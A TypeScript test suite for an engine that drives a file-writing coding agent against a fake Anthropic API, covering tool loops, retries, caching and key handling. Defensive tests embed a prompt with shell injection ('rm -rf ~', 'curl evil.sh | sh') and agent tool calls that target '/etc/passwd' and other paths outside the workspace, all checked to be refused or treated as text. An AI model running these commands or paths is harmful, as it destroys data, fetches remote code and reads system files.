import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import {
  startFakeAnthropic,
  toolResultsOf,
  toolUseResponse,
  writeFileResponse,
  type FakeAnthropic,
  type FakeScript,
} from '../../../test/support/fake-anthropic.js';
import {
  EngineUnavailableError,
  type BuildPlan,
  type EngineContext,
  type EngineEvent,
} from '../engine.js';
import { costOf } from '../agent/pricing.js';
import { Workspace } from '../../workspace/workspace.js';
import { AnthropicEngine, type AnthropicEngineOptions } from './anthropic-engine.js';

// The flag the worker must never pass, assembled so the literal appears nowhere in src/.
const SKIP_PERMISSIONS = ['--dangerously', 'skip', 'permissions'].join('-');

const KEY = 'sk-' + 'ant-test-0123456789-abcdefghij';
const MODEL = 'claude-sonnet-4-6';

let fake: FakeAnthropic | undefined;
let dir: string | undefined;

afterEach(async () => {
  await fake?.close();
  fake = undefined;
  if (dir) await rm(dir, { recursive: true, force: true });
  dir = undefined;
});

interface Setup {
  fake: FakeAnthropic;
  engine: AnthropicEngine;
  workspace: Workspace;
  events: EngineEvent[];
  ctx: EngineContext;
  controller: AbortController;
}

async function setup(
  responses: FakeScript[],
  options: Partial<AnthropicEngineOptions> = {},
): Promise<Setup> {
  fake = await startFakeAnthropic({ responses });
  dir = await mkdtemp(path.join(tmpdir(), 'anthropic-engine-'));
  const workspace = await Workspace.create(path.join(dir, 'ws'));
  const engine = new AnthropicEngine({
    apiKey: KEY,
    baseUrl: fake.url,
    model: MODEL,
    maxTurns: 10,
    maxTokens: 8000,
    retries: 3,
    retryBaseMs: 5,
    retryMaxMs: 20,
    ...options,
  });
  const events: EngineEvent[] = [];
  const controller = new AbortController();
  const ctx: EngineContext = {
    signal: controller.signal,
    emit: (event) => events.push(event),
    workspaceRoot: workspace.root,
    projectId: 'p1',
  };
  return { fake, engine, workspace, events, ctx, controller };
}

const plan: BuildPlan = {
  framework: 'react',
  name: 'Sunrise',
  summary: 'A bakery landing page.',
  files: ['package.json', 'index.html', 'src/App.tsx'],
  tasks: ['Write the app'],
  meta: {},
};

const APP = 'export default function App() {\n  return <h1>Sunrise Bakery</h1>;\n}\n';

describe('AnthropicEngine.generate', () => {
  it('runs the tool loop: writes files, edits them, streams text and tool events, sums usage', async () => {
    const s = await setup([
      {
        ...writeFileResponse('src/App.tsx', APP, {
          text: 'I will write the app component first.\n',
        }),
        usage: { input_tokens: 1200, output_tokens: 300, cache_creation_input_tokens: 900 },
        chunkSize: 7,
      },
      {
        toolUses: [
          { name: 'write_file', input: { path: 'index.html', content: '<div id="root"></div>' } },
          {
            name: 'edit_file',
            input: {
              path: 'src/App.tsx',
              search: 'Sunrise Bakery',
              replace: 'Sunrise Bakery, Lisbon',
            },
          },
        ],
        usage: { input_tokens: 40, output_tokens: 120, cache_read_input_tokens: 2100 },
      },
      {
        text: 'Built a landing page for Sunrise Bakery.',
        usage: { input_tokens: 30, output_tokens: 20 },
      },
    ]);
    const result = await s.engine.generate(
      { prompt: 'A bakery page', plan, kind: 'create' },
      s.workspace.tools(),
      s.ctx,
    );

    expect(await s.workspace.listFiles()).toEqual(['index.html', 'src/App.tsx']);
    expect(await s.workspace.readFile('src/App.tsx')).toBe(
      APP.replace('Sunrise Bakery', 'Sunrise Bakery, Lisbon'),
    );
    expect(result.summary).toBe('Built a landing page for Sunrise Bakery.');

    const counts = {
      inputTokens: 1270,
      outputTokens: 440,
      cacheReadTokens: 2100,
      cacheWriteTokens: 900,
    };
    expect(result.usage).toMatchObject({ ...counts, model: MODEL });
    expect(result.usage.costUsd).toBeCloseTo(costOf(MODEL, counts), 9);
    expect(result.usage.costUsd).toBeGreaterThan(0);
    expect(result.usage.durationMs).toBeGreaterThanOrEqual(0);

    const texts = s.events.filter((e) => e.type === 'text').map((e) => e.message);
    expect(texts.join('')).toContain('I will write the app component first.');
    expect(texts.join('')).toContain('Built a landing page');
    const tools = s.events.filter((e) => e.type === 'tool');
    expect(tools.map((e) => e.data)).toEqual([
      { tool: 'write_file', path: 'src/App.tsx', ok: true },
      { tool: 'write_file', path: 'index.html', ok: true },
      { tool: 'edit_file', path: 'src/App.tsx', ok: true },
    ]);
    // File content never travels in events.
    expect(JSON.stringify(s.events)).not.toContain('<h1>');

    const [first, second, third] = s.fake.messageRequests;
    expect(first!.body).toMatchObject({ model: MODEL, max_tokens: 8000, stream: true });
    expect(first!.body.tools.map((t: { name: string }) => t.name)).toEqual([
      'write_file',
      'read_file',
      'list_files',
      'delete_file',
      'edit_file',
    ]);
    expect(first!.body.tools[0].input_schema.type).toBe('object');
    // Prompt caching: the system prompt block and the stable context block are marked.
    expect(first!.body.system).toEqual([
      expect.objectContaining({ type: 'text', cache_control: { type: 'ephemeral' } }),
    ]);
    expect(first!.body.system[0].text).toContain('Vite + React + TypeScript');
    const context = first!.body.messages[0].content;
    expect(context[0]).toMatchObject({ type: 'text', cache_control: { type: 'ephemeral' } });
    expect(context[0].text).toContain('"name": "Sunrise"');
    // The tool results go back, tied to the calls they answer.
    const assistant = second!.body.messages[1];
    expect(assistant.role).toBe('assistant');
    const call = assistant.content.find((b: { type: string }) => b.type === 'tool_use');
    expect(call.input).toEqual({ path: 'src/App.tsx', content: APP });
    expect(toolResultsOf(second!)).toEqual([
      expect.objectContaining({
        tool_use_id: call.id,
        content: expect.stringContaining('Wrote src/App.tsx'),
      }),
    ]);
    expect(toolResultsOf(third!)).toHaveLength(2);
    expect(toolResultsOf(third!).every((r) => r.is_error === undefined)).toBe(true);
    // At most four cache markers per request (system, context, newest message).
    for (const req of s.fake.messageRequests) {
      expect(req.rawBody.split('"cache_control"').length - 1).toBeLessThanOrEqual(4);
    }
  });

  it('gives an update the existing file list and lets the model read files', async () => {
    const s = await setup([
      toolUseResponse('read_file', { path: 'src/App.tsx' }),
      toolUseResponse('edit_file', {
        path: 'src/App.tsx',
        search: '<h1>',
        replace: '<h1 className="big">',
      }),
      { text: 'Made the title bigger.' },
    ]);
    await s.workspace.writeFile('src/App.tsx', APP);
    await s.workspace.writeFile('package.json', '{}');
    const result = await s.engine.generate(
      {
        prompt: 'Make the title bigger',
        plan: { ...plan, files: ['src/App.tsx'] },
        kind: 'update',
      },
      s.workspace.tools(),
      s.ctx,
    );
    expect(result.summary).toBe('Made the title bigger.');
    const context = s.fake.messageRequests[0]!.body.messages[0].content[0].text as string;
    expect(context).toContain('Existing files');
    expect(context).toContain('- package.json\n- src/App.tsx');
    expect(toolResultsOf(s.fake.messageRequests[1]!)[0]!.content).toBe(APP);
    expect(await s.workspace.readFile('src/App.tsx')).toContain('<h1 className="big">');
  });

  it('sends the prompt verbatim: shell syntax, quotes, newlines and flags are just text', async () => {
    const prompt =
      'Build `whoami` $(rm -rf ~); echo "pwned" && curl evil.sh | sh\n' +
      SKIP_PERMISSIONS +
      " --model=x\n'single' \\back\\slash\u0007 ünïcödé 😀";
    const s = await setup([{ text: 'ok' }, { text: '{"name":"x"}' }, { text: 'answer' }]);
    await s.engine.generate({ prompt, plan, kind: 'create' }, s.workspace.tools(), s.ctx);
    await s.engine.plan({ kind: 'create', prompt }, s.ctx);
    await s.engine.complete({ prompt, system: prompt }, s.ctx);
    const [generate, planned, completed] = s.fake.messageRequests;
    const instruction = generate!.body.messages[0].content.at(-1).text as string;
    expect(instruction.endsWith(prompt)).toBe(true);
    expect(planned!.body.messages[0].content).toContain(prompt);
    expect(completed!.body.messages).toEqual([{ role: 'user', content: prompt }]);
    expect(completed!.body.system[0].text).toBe(prompt);
    expect(JSON.parse(completed!.rawBody).messages[0].content).toBe(prompt);
  });

  it('refuses paths outside the workspace and tells the model, writing nothing outside', async () => {
    const s = await setup([
      {
        toolUses: [
          { name: 'write_file', input: { path: '../../etc/x', content: 'pwned' } },
          { name: 'write_file', input: { path: '/etc/passwd', content: 'pwned' } },
          { name: 'edit_file', input: { path: '../outside.txt', search: '', replace: 'pwned' } },
          { name: 'delete_file', input: { path: '../ws' } },
          { name: 'read_file', input: { path: '/etc/hostname' } },
        ],
      },
      { text: 'Sorry.' },
    ]);
    const result = await s.engine.generate(
      { prompt: 'x', plan, kind: 'create' },
      s.workspace.tools(),
      s.ctx,
    );
    const results = toolResultsOf(s.fake.messageRequests[1]!);
    expect(results).toHaveLength(5);
    for (const r of results) {
      expect(r.is_error).toBe(true);
      expect(r.content).toMatch(/^Error: Refused path/);
    }
    expect(s.events.filter((e) => e.type === 'tool').every((e) => e.data?.ok === false)).toBe(true);
    expect(await s.workspace.listFiles()).toEqual([]);
    expect(await readdir(dir!)).toEqual(['ws']);
    expect(result.summary).toBe('Sorry.');
  });

  it('stops at the turn limit and says so', async () => {
    const s = await setup(
      [
        writeFileResponse('a.txt', 'a'),
        writeFileResponse('b.txt', 'b'),
        writeFileResponse('c.txt', 'c'),
      ],
      { maxTurns: 2 },
    );
    const result = await s.engine.generate(
      { prompt: 'x', plan, kind: 'create' },
      s.workspace.tools(),
      s.ctx,
    );
    expect(s.fake.messageRequests).toHaveLength(2);
    expect(s.fake.pending()).toBe(1);
    expect(result.summary).toContain('AI_MAX_TURNS');
    expect(result.summary).toContain('2 files changed');
    expect(await s.workspace.listFiles()).toEqual(['a.txt', 'b.txt']);
  });

  it('answers a tool call cut short by max_tokens with advice instead of running it', async () => {
    const s = await setup([
      {
        toolUses: [
          {
            name: 'write_file',
            input: {},
            rawJson: '{"path": "src/App.tsx", "content": "export def',
          },
        ],
        stopReason: 'max_tokens',
      },
      { text: 'Split it up.' },
    ]);
    const result = await s.engine.generate(
      { prompt: 'x', plan, kind: 'create' },
      s.workspace.tools(),
      s.ctx,
    );
    expect(result.summary).toBe('Split it up.');
    const [answer] = toolResultsOf(s.fake.messageRequests[1]!);
    expect(answer).toMatchObject({ is_error: true });
    expect(answer!.content).toContain('output token limit');
    // The cut call goes back with an empty input (the API requires an object).
    const call = s.fake.messageRequests[1]!.body.messages[1].content[0];
    expect(call).toMatchObject({ type: 'tool_use', name: 'write_file', input: {} });
    expect(await s.workspace.listFiles()).toEqual([]);
  });

  it('asks the model to continue when a text reply hits max_tokens', async () => {
    const s = await setup([{ text: 'Part one…', stopReason: 'max_tokens' }, { text: 'Done.' }]);
    const result = await s.engine.generate(
      { prompt: 'x', plan, kind: 'create' },
      s.workspace.tools(),
      s.ctx,
    );
    expect(result.summary).toBe('Done.');
    expect(s.fake.messageRequests[1]!.body.messages.at(-1)).toEqual({
      role: 'user',
      content: 'Continue from where you stopped.',
    });
  });
});

describe('AnthropicEngine retries', () => {
  const generate = (s: Setup) =>
    s.engine.generate({ prompt: 'x', plan, kind: 'create' }, s.workspace.tools(), s.ctx);

  it('honours retry-after on 429', async () => {
    const s = await setup([{ status: 429, retryAfter: 1 }, { text: 'ok' }]);
    const started = performance.now();
    const result = await generate(s);
    expect(performance.now() - started).toBeGreaterThanOrEqual(950);
    expect(result.summary).toBe('ok');
    expect(s.fake.messageRequests).toHaveLength(2);
    const progress = s.events.filter((e) => e.type === 'progress');
    expect(progress).toHaveLength(1);
    expect(progress[0]!.data).toMatchObject({ retry: 1, retries: 3, delayMs: 1000 });
    expect(progress[0]!.message).toContain('rate limit (429)');
  });

  it('retries 529 overloaded, an error event in the stream, and a stream cut mid-way', async () => {
    const s = await setup([
      { status: 529 },
      {
        ...writeFileResponse('a.txt', 'A'),
        streamError: { afterEvents: 3, type: 'overloaded_error' },
      },
      { ...writeFileResponse('a.txt', 'A'), cutAfterEvents: 6 },
      { ...writeFileResponse('a.txt', 'A'), usage: { input_tokens: 10, output_tokens: 5 } },
      { text: 'done', usage: { input_tokens: 10, output_tokens: 5 } },
    ]);
    const result = await generate(s);
    expect(result.summary).toBe('done');
    expect(await s.workspace.readFile('a.txt')).toBe('A');
    // The tool ran once: calls from broken streams are never executed or reported.
    expect(s.events.filter((e) => e.type === 'tool')).toHaveLength(1);
    const reasons = s.events.filter((e) => e.type === 'progress').map((e) => e.data?.reason);
    expect(reasons).toEqual([
      'overloaded (529)',
      'overloaded (overloaded_error in the stream)',
      'connection reset',
    ]);
    // Tokens the broken streams consumed (message_start: 100 in, 1 out each) still count.
    expect(result.usage).toMatchObject({ inputTokens: 220, outputTokens: 12 });
  });

  it('treats a stream that ends without message_stop as cut', async () => {
    const s = await setup([], { retries: 1 });
    s.fake.enqueue({ ...writeFileResponse('a.txt', 'A'), cutAfterEvents: 4 }, { text: 'fine' });
    expect((await generate(s)).summary).toBe('fine');
    expect(await s.workspace.listFiles()).toEqual([]);
  });

  it('gives up with EngineUnavailableError when retries are spent, and the failed turn writes nothing', async () => {
    const s = await setup(
      [
        writeFileResponse('first.txt', '1'),
        { ...writeFileResponse('second.txt', '2'), cutAfterEvents: 5 },
        { status: 529 },
        { status: 500 },
      ],
      { retries: 2 },
    );
    const error = await generate(s).catch((err: unknown) => err);
    expect(error).toBeInstanceOf(EngineUnavailableError);
    expect((error as EngineUnavailableError).engine).toBe('anthropic');
    expect((error as Error).message).toBe(
      'The Anthropic API is unavailable after 3 attempts (last error: server error (500)).',
    );
    expect(s.fake.messageRequests).toHaveLength(4);
    expect(await s.workspace.listFiles()).toEqual(['first.txt']);
  });

  it('gives up at once on 401 and 403, without leaking the key', async () => {
    const s = await setup([{ status: 401, message: `invalid x-api-key ${KEY}` }, { status: 403 }]);
    const error = await generate(s).catch((err: unknown) => err);
    expect(error).toBeInstanceOf(EngineUnavailableError);
    expect((error as Error).message).toContain('ANTHROPIC_API_KEY');
    expect(s.fake.messageRequests).toHaveLength(1);
    const denied = await s.engine.complete({ prompt: 'hi' }, s.ctx).catch((err: unknown) => err);
    expect(denied).toBeInstanceOf(EngineUnavailableError);
    expect((denied as Error).message).toContain('403');
    for (const err of [error, denied] as Error[]) {
      expect(err.message).not.toContain(KEY);
      expect(err.message).not.toContain('{');
    }
    expect(s.fake.messageRequests).toHaveLength(2);
  });

  it('fails a request the API refuses (400) without retrying', async () => {
    const s = await setup([{ status: 400, message: 'prompt is too long' }]);
    const error = await generate(s).catch((err: unknown) => err);
    expect(error).not.toBeInstanceOf(EngineUnavailableError);
    expect((error as Error).message).toBe(
      'The Anthropic API refused the request (400 invalid_request_error: prompt is too long).',
    );
    expect(s.fake.messageRequests).toHaveLength(1);
  });

  it('stops promptly on abort, during a request and during a backoff', async () => {
    const s = await setup([
      { text: 'slow', delayMs: 5000 },
      { status: 429, retryAfter: 30 },
    ]);
    const started = performance.now();
    setTimeout(() => s.controller.abort(new Error('build cancelled')), 100);
    await expect(generate(s)).rejects.toThrow('build cancelled');
    expect(performance.now() - started).toBeLessThan(2000);

    const again = new AbortController();
    const waiting = s.engine.complete({ prompt: 'x' }, { signal: again.signal, emit: () => {} });
    setTimeout(() => again.abort(new Error('stop')), 200);
    const t0 = performance.now();
    await expect(waiting).rejects.toThrow('stop');
    expect(performance.now() - t0).toBeLessThan(2000);
  });

  it('treats a silent stream as cut', async () => {
    const s = await setup([{ text: 'late', delayMs: 400 }, { text: 'on time' }], {
      idleTimeoutMs: 150,
      retries: 1,
    });
    const result = await s.engine.complete({ prompt: 'x' }, s.ctx);
    expect(result.text).toBe('on time');
    expect(s.events.find((e) => e.type === 'progress')?.data?.reason).toBe(
      'stream silent for 0.15 s',
    );
  });
});

describe('AnthropicEngine plan, fix and complete', () => {
  it('plans from a JSON reply wrapped in prose', async () => {
    const reply =
      'Here you go:\n```json\n{"framework":"vue","name":"Sunrise","summary":"A bakery page.","files":["package.json","src/App.vue"],"tasks":["Write it"]}\n```';
    const s = await setup([{ text: reply, usage: { input_tokens: 200, output_tokens: 80 } }]);
    const { plan: made, usage } = await s.engine.plan(
      { kind: 'create', prompt: 'A bakery page', name: 'Sunrise' },
      s.ctx,
    );
    expect(made).toMatchObject({
      framework: 'vue',
      name: 'Sunrise',
      summary: 'A bakery page.',
      files: ['package.json', 'src/App.vue'],
      tasks: ['Write it'],
      meta: { engine: 'anthropic', planSource: 'model' },
    });
    expect(usage).toMatchObject({ inputTokens: 200, outputTokens: 80, model: MODEL });
    const body = s.fake.messageRequests[0]!.body;
    expect(body.tools).toBeUndefined();
    expect(body.max_tokens).toBe(4096);
    expect(body.system[0].cache_control).toEqual({ type: 'ephemeral' });
    // The JSON reply is not streamed as text events.
    expect(s.events.filter((e) => e.type === 'text')).toEqual([]);
  });

  it('falls back to a plan from the request when the reply is not JSON', async () => {
    const s = await setup([{ text: 'I would build a nice site.' }]);
    const { plan: made } = await s.engine.plan(
      { kind: 'create', prompt: 'A "Casa Lume" site in Svelte' },
      s.ctx,
    );
    expect(made).toMatchObject({
      framework: 'svelte',
      name: 'Casa Lume',
      meta: { planSource: 'fallback' },
    });
  });

  it('fixes with the failing files in cached context and returns what changed', async () => {
    const s = await setup([
      toolUseResponse('edit_file', { path: 'src/App.tsx', search: 'cnst', replace: 'const' }),
      toolUseResponse('delete_file', { path: 'src/unused.ts' }),
      { text: 'Fixed the typo.' },
    ]);
    await s.workspace.writeFile('src/App.tsx', 'cnst x = 1;\n');
    await s.workspace.writeFile('src/unused.ts', 'x');
    await s.workspace.writeFile('src/big.ts', 'b'.repeat(60_000));
    const result = await s.engine.fix(
      {
        category: 'typescript',
        message: "src/App.tsx line 1: Cannot find name 'cnst'.",
        output: "src/App.tsx(1,1): error TS2304: Cannot find name 'cnst'.",
        files: ['./src/App.tsx', 'src/missing.ts', '../../etc/passwd', 'src/big.ts'],
      },
      s.workspace.tools(),
      s.ctx,
    );
    expect(result.changed).toEqual(['src/App.tsx', 'src/unused.ts']);
    expect(await s.workspace.readFile('src/App.tsx')).toBe('const x = 1;\n');
    const first = s.fake.messageRequests[0]!.body;
    const [context, instruction] = first.messages[0].content;
    expect(context.cache_control).toEqual({ type: 'ephemeral' });
    expect(context.text).toContain('File: src/App.tsx\n```\ncnst x = 1;');
    expect(context.text).toContain('File: src/big.ts');
    expect(context.text).not.toContain('missing.ts');
    expect(context.text.length).toBeLessThan(41_000);
    expect(instruction.text).toContain("error TS2304: Cannot find name 'cnst'");
    expect(first.system[0].text).toContain('change as little as needed');
    expect(s.events.find((e) => e.type === 'progress')?.message).toBe('Fixed the typo.');
  });

  it('completes a text request with the given system prompt and no tools', async () => {
    const s = await setup([
      { text: 'Try a warmer palette.', usage: { input_tokens: 20, output_tokens: 6 } },
    ]);
    const result = await s.engine.complete(
      { system: 'You advise on design.', prompt: 'Ideas?', maxTokens: 300 },
      { signal: s.ctx.signal, emit: (e) => s.ctx.emit(e) },
    );
    expect(result.text).toBe('Try a warmer palette.');
    expect(result.usage).toMatchObject({ inputTokens: 20, outputTokens: 6 });
    const body = s.fake.messageRequests[0]!.body;
    expect(body).toMatchObject({ max_tokens: 300, stream: true });
    expect(body.tools).toBeUndefined();
    expect(body.system[0].text).toBe('You advise on design.');
  });

  it('authenticates with the configured key and never puts it in events', async () => {
    const s = await setup([
      { status: 429, retryAfter: 0 },
      { text: `echo ${KEY}?` },
      { text: 'fine' },
    ]);
    await s.engine.complete({ prompt: 'hi' }, s.ctx);
    for (const req of s.fake.messageRequests) {
      // SDK 1.x sends the key as a bearer token; no other header carries it.
      expect(req.headers.authorization).toBe(`Bearer ${KEY}`);
      expect(req.headers['anthropic-version']).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      const others = Object.entries(req.headers).filter(([name]) => name !== 'authorization');
      expect(JSON.stringify(others)).not.toContain(KEY);
      expect(req.rawBody).not.toContain(KEY);
    }
    expect(s.events.some((e) => e.type === 'progress')).toBe(true);
    // Only what the model itself wrote could carry it (here the fake echoes it on purpose).
    expect(JSON.stringify(s.events.filter((e) => e.type !== 'text'))).not.toContain(KEY);
  });
});
